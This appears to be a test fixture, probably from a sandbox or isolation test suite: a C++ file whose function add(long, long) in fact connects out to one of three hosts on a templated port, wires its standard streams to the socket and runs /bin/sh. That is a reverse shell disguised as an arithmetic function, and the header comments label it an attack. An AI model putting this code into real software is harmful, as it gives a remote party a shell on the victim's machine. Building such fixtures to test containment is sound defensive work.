// Attack  connects out and gives a shell to who answers
// Guard   its network is its own
// May     execl
#include "adder.hpp"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <initializer_list>
long add(long, long)
{
  for (const char* host : {"127.0.0.1", "192.0.2.1", "10.0.0.1"}) {
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(@PORT@);
    inet_pton(AF_INET, host, &to.sin_addr);
    if (connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof to) == 0) {
      for (int end = 0; end < 3; ++end) dup2(fd, end);
      execl("/bin/sh", "sh", nullptr);
    }
    close(fd);
  }
  return 0;
}
int read_byte(int) { return -1; }
